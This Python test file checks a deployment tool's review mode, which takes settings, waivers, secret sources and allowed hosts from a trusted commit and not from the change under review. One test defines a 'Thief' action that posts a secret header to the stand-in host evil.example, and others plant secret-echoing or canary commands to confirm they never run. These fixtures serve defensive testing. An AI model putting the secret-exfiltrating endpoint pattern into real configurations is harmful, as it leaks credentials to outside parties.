"""A change under review says what is desired; where that goes and what may be done a trusted commit says."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.scenarios.desk import Desk, Ran, action
from tests.workflows.runner import git


@pytest.fixture
def repo(desk: Desk) -> Desk:
    """A desk whose workspace is a git repository; its one commit, ``main``, is the trusted one."""
    git(desk.root, "init", "--quiet")
    desk.write(action("Hello"))
    commit(desk)
    return desk


def commit(desk: Desk) -> str:
    git(desk.root, "add", "--all")
    git(desk.root, "commit", "--quiet", "--message", "A change")
    return git(desk.root, "rev-parse", "HEAD")


def diff(desk: Desk, *more: str) -> Ran:
    return desk.ajo("diff", "--settings-from", "main", *more)


def test_an_address_of_the_change_is_told_and_not_asked(repo: Desk) -> None:
    repo.settings(base_url="http://127.0.0.1:9/elsewhere")
    repo.write(action("Second"))
    assert repo.ajo("diff").exit == 5
    ran = diff(repo)
    assert ran.exit == 0
    assert "create custom action Second" in ran.out
    there, here = json.dumps("http://127.0.0.1:9/elsewhere"), json.dumps(repo.running.base_url)
    at = git(repo.root, "rev-parse", "main")[:12]
    words = f"targets.here.base-url: {there} in the change; {here} at {at} (main), which counts"
    assert f"ajo.toml:3:1: warning AJO612 {words}" in ran.out
    assert f"Note: settings and waivers are those of {at} (main), definitions those of the files." in ran.out


def test_a_reviewer_reads_it_in_markdown_and_in_json_and_in_the_plan_that_is_kept(
    repo: Desk, tmp_path: Path
) -> None:
    repo.settings(workers=3)
    shown = diff(repo, "--format", "markdown").out
    assert "AJO612" in shown
    assert "here&#46;workers&#58; 3 in the change; nothing at " in shown
    assert "settings and waivers are those of" in shown
    plan = diff(repo, "--json").json()
    (found,) = plan["findings"]
    assert (found["code"], found["severity"], found["file"]) == ("AJO612", "warning", "ajo.toml")
    assert found["line"] == 10
    assert "3 in the change; nothing at " in found["message"]
    assert plan["notes"][0].startswith("settings and waivers are those of")
    file = tmp_path / "plan.json"
    assert diff(repo, "--out", str(file)).exit == 0
    assert "targets.here.workers: 3 in the change" in repo.ajo("show", str(file)).out


def test_without_a_difference_only_the_commit_is_named(repo: Desk) -> None:
    repo.write(action("Second"))
    ran = diff(repo)
    assert "AJO612" not in ran.out
    assert "settings and waivers are those of" in ran.out
    assert "settings and waivers" not in repo.ajo("diff").out


def test_a_secret_source_of_the_change_is_not_asked(repo: Desk, tmp_path: Path) -> None:
    spied = tmp_path / "spied"
    lines = repo.target_lines().replace(
        '{ from = "made-up" }', f'{{ from = "command", command = ["touch", "{spied}", "{{path}}"] }}'
    )
    (repo.root / "ajo.toml").write_text(f'default-target = "here"\n[targets.here]\n{lines}')
    ran = diff(repo, "--trust")
    assert (ran.exit, spied.exists()) == (0, False)
    assert 'targets.here.secrets.from: "command" in the change; "made-up" at ' in ran.out


def test_a_host_that_the_change_allows_for_a_secret_is_not_allowed(repo: Desk) -> None:
    hosts = '[targets.here.secret-hosts]\n"team/*" = ["hello.example.com"]\n'
    settings = repo.root / "ajo.toml"
    before = settings.read_text()
    settings.write_text(before + hosts)
    commit(repo)
    settings.write_text(before + hosts.replace("hello.example.com", "evil.example"))
    headers = {"X-Key": "${secret:team/key}"}
    endpoint = {"method": "POST", "url": "https://evil.example/v1", "headers": headers}
    repo.write(action("Thief", endpoint=endpoint))
    assert repo.ajo("diff").exit == 0
    ran = diff(repo)
    assert ran.exit == 3
    assert "AJO342" in ran.err


def test_what_may_be_done_is_not_said_by_the_change(repo: Desk) -> None:
    repo.settings(on_drift="refuse")
    commit(repo)
    assert repo.ajo("sync", "--yes").exit == 0
    found = repo.live()["Hello"]
    repo.call("PUT", f"actions/{found['uid']}", {**found, "description": "edited"})
    repo.settings(on_drift="overwrite")
    assert "AJO607" not in repo.ajo("diff").out
    assert "AJO607" in diff(repo).out


def test_a_rule_that_the_change_ignores_is_not_ignored(repo: Desk) -> None:
    settings = repo.root / "ajo.toml"
    settings.write_text(settings.read_text() + '[rules]\nignore = ["AJO200"]\n')
    repo.write(action("bad-name"))
    assert repo.ajo("diff").exit == 0
    assert diff(repo).exit == 3


def waiver(desk: Desk, name: str) -> None:
    entry = {"target": "here", "kind": "CustomAction", "name": name, "reason": "so", "until": "2999-12-31"}
    text = json.dumps({"formatVersion": 1, "waivers": [entry]})
    (desk.root / "ajo-waivers.json").write_text(text)


def kept(ran: Ran) -> list[Any]:
    plan = ran.json()
    return [each["name"] for each in plan["kept"]]


@pytest.mark.parametrize("is_trusted", [True, False])
def test_waivers_of_the_commit_count_and_others_are_told(repo: Desk, *, is_trusted: bool) -> None:
    if is_trusted:
        waiver(repo, "Hello")
    commit(repo) if is_trusted else None
    assert repo.ajo("sync", "--yes").exit == 0
    found = repo.live()["Hello"]
    repo.call("PUT", f"actions/{found['uid']}", {**found, "description": "edited"})
    (repo.root / "ajo-waivers.json").unlink(missing_ok=True)
    if not is_trusted:
        waiver(repo, "Hello")
    ran = diff(repo, "--json")
    assert kept(ran) == (["Hello"] if is_trusted else [])
    assert kept(repo.ajo("diff", "--json")) == ([] if is_trusted else ["Hello"])
    (told_of,) = (each for each in ran.json()["findings"] if each["code"] == "AJO612")
    assert told_of["file"] == "ajo-waivers.json"
    assert "the change has other waivers" in told_of["message"]


def test_waivers_of_the_change_that_can_not_be_read_are_told(repo: Desk) -> None:
    waiver(repo, "Hello")
    commit(repo)
    (repo.root / "ajo-waivers.json").unlink()
    (repo.root / "ajo-waivers.json").mkdir()
    ran = diff(repo)
    assert (ran.exit, "ajo-waivers.json: warning AJO612 the change has other waivers" in ran.out) == (0, True)


@pytest.mark.parametrize("file", ["tools/fetch.sh", "tools/other.py", "actions/helper.py", "pyproject.toml"])
def test_with_trust_no_code_of_the_change_is_run(repo: Desk, tmp_path: Path, file: str) -> None:
    command = json.dumps(["sh", "tools/fetch.sh", "{path}"])
    lines = repo.target_lines().replace(
        '{ from = "made-up" }', f'{{ from = "command", command = {command} }}'
    )
    (repo.root / "ajo.toml").write_text(f'default-target = "here"\n[targets.here]\n{lines}')
    (repo.root / "tools").mkdir()
    (repo.root / "tools/fetch.sh").write_text(f"echo {repo.running.client_secret}\n")
    commit(repo)
    repo.settings()
    waiver(repo, "Hello")
    repo.write(action("Second"))
    assert diff(repo, "--trust").exit == 0
    spied = tmp_path / "spied"
    (repo.root / file).write_text(f"touch {spied}\n")
    ran = diff(repo, "--trust")
    assert (ran.exit, ran.out, spied.exists()) == (6, "", False)
    assert f"error AJO613: {file} is not as " in ran.err
    commit(repo)
    assert repo.ajo("diff", "--settings-from", "HEAD~1", "--trust").exit == 6
    assert not spied.exists()


def test_a_workspace_in_a_folder_of_the_repository_is_looked_at_alike(repo: Desk) -> None:
    (repo.root / "shop").mkdir()
    for name in ("ajo.toml", "actions"):
        (repo.root / name).rename(repo.root / "shop" / name)
    commit(repo)
    shop = Desk(repo.root / "shop", repo.running, repo.sandbox, repo.capsys)
    shop.settings(workers=2)
    shop.write(action("Second"))
    ran = diff(shop, "--trust")
    assert "targets.here.workers: 2 in the change" in ran.out
    assert "create custom action Second" in ran.out
    (repo.root / "above.py").write_text("")
    assert "error AJO613: above.py is not as " in diff(shop, "--trust").err


def test_a_commit_that_can_not_say_is_an_error_that_names_it(repo: Desk) -> None:
    assert "AJO821" in repo.ajo("diff", "--settings-from", "no-such").err
    (repo.root / "ajo.toml").rename(repo.root / "other")
    without = commit(repo)
    (repo.root / "other").rename(repo.root / "ajo.toml")
    ran = repo.ajo("diff", "--settings-from", without)
    assert ran.exit == 3
    assert f"error AJO824: no settings can be taken from {without[:12]}" in ran.err
    (repo.root / "ajo.toml").write_text("[targets.here]\nwrong = 1\n")
    broken = commit(repo)
    repo.settings()
    ran = repo.ajo("diff", "--settings-from", broken)
    assert ran.exit == 3
    assert f"{broken[:12]}:ajo.toml:" in ran.err


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("[targets.here]\nwrong = 1\n", "the change's settings can't be used, "),
        ("not toml", "the change's settings can't be used, "),
        (None, "a link; what it leads to is not read"),
    ],
)
def test_settings_of_the_change_that_can_not_be_read_are_told(
    repo: Desk, tmp_path: Path, text: str | None, words: str
) -> None:
    if text is None:
        (repo.root / "ajo.toml").rename(tmp_path / "elsewhere.toml")
        (repo.root / "ajo.toml").symlink_to(tmp_path / "elsewhere.toml")
    else:
        (repo.root / "ajo.toml").write_text(text)
    ran = diff(repo)
    assert ran.exit == 0
    assert words in ran.out


def test_settings_in_another_file_are_told(repo: Desk) -> None:
    git(repo.root, "mv", "ajo.toml", "gone.toml")
    text = '[tool.ajo]\ndefault-target = "here"\n[tool.ajo.targets.here]\n' + repo.target_lines(workers=5)
    (repo.root / "pyproject.toml").write_text(text)
    ran = diff(repo)
    assert "pyproject.toml: warning AJO612 the change has its settings here; ajo.toml of" in ran.out
    assert "targets.here.workers: 5 in the change" in ran.out


def test_a_secret_typed_into_the_settings_of_a_change_is_not_shown(repo: Desk) -> None:
    lines = repo.target_lines({"api_token": "CANARY-1", "region": "eu"})
    (repo.root / "ajo.toml").write_text(f'default-target = "here"\n[targets.here]\n{lines}')
    for form in ("text", "json", "markdown"):
        ran = diff(repo, "--format", form)
        assert ("CANARY-1" in ran.out + ran.err, "eu" in ran.out) == (False, True)


def test_a_change_of_very_many_settings_is_told_in_few_lines(repo: Desk) -> None:
    repo.settings({f"value-{number}": "x" * 200 for number in range(499)})
    ran = diff(repo)
    assert ran.out.count("AJO612") == 100
    assert "(and 400 more like this, not listed)" in ran.out
    assert "x" * 150 not in ran.out


def test_all_targets_are_those_of_the_commit(repo: Desk) -> None:
    settings = repo.root / "ajo.toml"
    settings.write_text(settings.read_text() + "[targets.evil]\n" + repo.target_lines())
    ran = diff(repo, "--all-targets")
    assert ran.exit == 0
    assert "targets.evil.sandbox: " in ran.out
    assert "Target evil" not in ran.out
